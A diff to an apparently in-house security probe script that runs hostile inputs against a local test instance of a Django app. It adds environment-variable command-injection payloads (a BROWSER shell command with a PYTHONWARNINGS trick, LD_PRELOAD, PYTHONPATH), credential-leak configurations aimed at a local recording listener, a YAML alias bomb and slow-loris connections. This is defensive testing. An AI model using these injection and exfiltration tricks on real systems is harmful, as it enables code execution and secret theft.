@@ -4,6 +4,11 @@ config.server``, DEBUG off, collectstatic not needed: the test settings' static 
 Principals × every method-route of the access table, plus hostile inputs; prints the counts and
 every finding (an answer a principal should not get: a 2xx without the right, a 5xx, a HEAD body,
 a body over the limit read). Asserts nothing; exit status 1 when there are findings.
+
+Issue 34's cases (:func:`probe_issue_34`): an editor's discovery env tricks against a real
+allowlisted stdio MCP server (``tests/discovery/mcp_servers.py``, official SDK) and credential
+leaks to a real HTTP listener on 127.0.0.1 that records every header it gets; a tool id with `/`
+and its timeouts on the Tools pages; a suite alias bomb and deep nesting; slow-loris headers.
 """
 
 from __future__ import annotations
@@ -16,12 +21,162 @@ import socket
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 from collections import Counter
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import Any
 
 ROOT = Path(__file__).resolve().parents[2]
 sys.path.insert(0, str(ROOT))
+STDIO_ARGV = (sys.executable, str(ROOT / "tests" / "discovery" / "mcp_servers.py"), "mixed")
+HEADER_TIMEOUT_S = 3
+
+
+def _listener() -> tuple[ThreadingHTTPServer, list[dict[str, str]]]:
+    """A real HTTP listener on 127.0.0.1 recording the headers of every request (answers 404)."""
+    seen: list[dict[str, str]] = []
+
+    class Record(BaseHTTPRequestHandler):
+        def _answer(self) -> None:
+            seen.append(dict(self.headers.items()))
+            self.send_response(404)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_GET = do_POST = _answer
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server, seen
+
+
+def probe_issue_34(
+    http: Any, port: int, work: Path, editor: dict[str, str], writer: dict[str, str]
+) -> tuple[list[str], int]:
+    """Issue 34's payloads against the running server; the findings and how many requests."""
+    from policy.services import draft_change
+    from tests.observe.live_support import HandRound
+
+    findings: list[str] = []
+    sent = 0
+    listener, seen = _listener()
+    url = f"http://127.0.0.1:{listener.server_address[1]}"
+    pwned = work / "pwned.txt"
+    stdio = {"command": STDIO_ARGV[0], "args": list(STDIO_ARGV[1:])}
+    services: dict[str, Any] = {
+        "evilenv": {
+            **stdio,
+            "env": {
+                "PYTHONWARNINGS": "all:0:antigravity.x:0:0",
+                "BROWSER": f"/bin/sh -c 'id > {pwned}' #%s",
+            },
+        },
+        "ldpreload": {**stdio, "env": {"LD_PRELOAD": str(work / "evil.so")}},
+        "pythonpath": {**stdio, "env": {"PYTHONPATH": str(work)}},
+        "leakbearer": {
+            "transport": "http",
+            "url": f"{url}/mcp",
+            "auth": {"type": "bearer", "env": "SECRET_KEY"},
+        },
+        "leakheader": {
+            "transport": "http",
+            "url": f"{url}/mcp",
+            "auth": {"type": "header", "header": "X-Leak", "env": "TRAITDECK_KDCUBE_TOKEN"},
+        },
+        "leaksse": {
+            "transport": "sse",
+            "url": f"{url}/sse",
+            "auth": {"type": "api_key", "env": "DATABASE_URL"},
+        },
+    }
+
+    def edit(doc: dict[str, Any]) -> dict[str, Any]:
+        consumer = doc["surfaces"]["as_consumer"]
+        consumer["mcp"] = {"services": services}
+        # An agent of its own: the route matrix before may have renamed or removed `main`.
+        tools = [{"kind": "mcp", "server_id": sid, "alias": sid} for sid in services]
+        consumer["agents"]["probe34"] = {"tools": tools}
+        return doc
+
+    draft_change(edit=edit, base_revision=None)
+    for server_id in services:
+        response = http.post(f"/api/v1/agents/probe34/mcp/{server_id}/discover", headers=editor)
+        sent += 1
+        if response.status_code != 422:
+            findings.append(f"discovery of {server_id} answered {response.status_code}, not 422")
+    if pwned.exists():
+        findings.append(f"an editor ran a command through a stdio env: {pwned.read_text()!r}")
+    secret_values = [os.environ["SECRET_KEY"], os.environ["TRAITDECK_KDCUBE_TOKEN"]]
+    secret_values.append(os.environ["DATABASE_URL"])
+    if any(value in json.dumps(seen) for value in secret_values):
+        findings.append("a server environment variable reached the listener")
+    listener.shutdown()
+    # A tool id with `/` and 25 of its timeouts: the Tools pages and their alerts.
+    hand = HandRound(turn_id="evil-slash").started()
+    for index in range(25):
+        hand.timeout(index, "evil/slash", None)
+    http.post("/api/v1/events", headers=writer, json={"events": hand.events})
+    for page in ("/live/tools/", "/live/tools/?partial=table", "/live/tools/?partial=alerts"):
+        sent += 2
+        status = http.get(page, headers=editor).status_code
+        if status != 200:
+            findings.append(f"{page} answered {status} after tool evil/slash")
+    tool_page = "/live/tools/main/evil%252Fslash/"
+    if http.get(tool_page, headers=editor).status_code != 200:
+        findings.append(f"{tool_page} does not show tool evil/slash")
+    # Suites: a 540-byte alias bomb, deep nesting, a deep added round; a deep source_command.
+    bomb = "agent: main\na: &a [" + ", ".join(["xxxxxxxxxx"] * 6) + "]\n"
+    for name, prev in zip("bcde", "abcd", strict=True):
+        bomb += f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]\n"
+    bomb += (
+        "cases:\n  - name: bomb\n    round: {turn_id: t, iteration: 0, max_actions: 1, attempts:"
+        " [[{action: call_tool, tool_id: workspace_jobs.search, params: {q: *e}}]]}\n"
+        "    expect: [{index: 0}]\n"
+    )
+    forms = [
+        ("/policy/agents/probe34/suite/", {"op": "import", "suite": bomb}),
+        ("/policy/agents/probe34/suite/", {"op": "import", "suite": "[" * 5000}),
+        ("/policy/agents/probe34/suite/", {"op": "add", "name": "deep", "round": "[" * 100_000}),
+        ("/policy/agents/probe34/connections/0/mcp-server/", {"source_command": "[" * 100_000}),
+    ]
+    for path, data in forms:
+        started = time.monotonic()
+        response = http.post(path, headers=editor, data=data)
+        sent += 1
+        seconds = time.monotonic() - started
+        if response.status_code != 422 or seconds > 5:
+            findings.append(
+                f"POST {path} {str(data)[:40]}: {response.status_code} in {seconds:.1f} s"
+            )
+    # Slow-loris: 20 connections trickling header bytes are closed at the header deadline.
+    conns = [socket.create_connection(("127.0.0.1", port)) for _ in range(20)]
+    started = time.monotonic()
+    open_conns = list(conns)
+    while open_conns and time.monotonic() - started < HEADER_TIMEOUT_S + 15:
+        for conn in list(open_conns):
+            try:
+                conn.sendall(b"X")
+                conn.settimeout(0.01)
+                if conn.recv(100) is not None:
+                    open_conns.remove(conn)
+            except TimeoutError:
+                pass
+            except OSError:
+                open_conns.remove(conn)
+        time.sleep(0.5)
+    sent += len(conns)
+    for conn in conns:
+        conn.close()
+    if open_conns:
+        findings.append(
+            f"{len(open_conns)} slow-loris connections still open after {HEADER_TIMEOUT_S + 15} s"
+        )
+    return findings, sent
 
 
 def main() -> int:
@@ -39,6 +194,11 @@ def main() -> int:
         "DEBUG": "0",
         "ALLOWED_HOSTS": "127.0.0.1",
         "DATABASE_URL": f"sqlite:///{work}/db.sqlite3",
+        # Issue 34: the allowlisted stdio server and host, and a secret worth stealing.
+        "TRAITDECK_MCP_STDIO_COMMANDS": json.dumps([list(STDIO_ARGV)]),
+        "TRAITDECK_MCP_HTTP_HOSTS": "127.0.0.1",
+        "TRAITDECK_KDCUBE_TOKEN": "kdcube-canary-" + secrets.token_hex(8),
+        "TRAITDECK_HEADER_TIMEOUT_S": str(HEADER_TIMEOUT_S),
     }
     os.environ.update(env)
     import django
@@ -87,7 +247,7 @@ def main() -> int:
                 time.sleep(0.1)
         http = httpx.Client(base_url=base, timeout=30)
         fill = {"agent": "main", "index": "0", "key": "search", "number": "1"}
-        fill |= {"turn_id_and_iteration": "t/0"}
+        fill |= {"turn_id_and_iteration": "t/0", "server_id": "browser"}
         api_routes = [
             (m, re.sub(r"\{(\w+)\}", lambda x: fill[x.group(1)], p), r, (m, p))
             for (m, p), r in API.items()
@@ -261,6 +421,10 @@ def main() -> int:
                 count["logins"] += 1
             if variant != "probe-viewer" and response.status_code != 429:
                 findings.append(f"login as {variant!r} not throttled: {response.status_code}")
+        editor = principals["session editor"]
+        found, sent = probe_issue_34(http, port, work, editor, writer)
+        findings += found
+        count["issue 34"] += sent
         with socket.create_connection(("127.0.0.1", port)) as conn:
             conn.sendall(
                 b"POST /api/v1/events HTTP/1.1\r\nHost: 127.0.0.1\r\n"
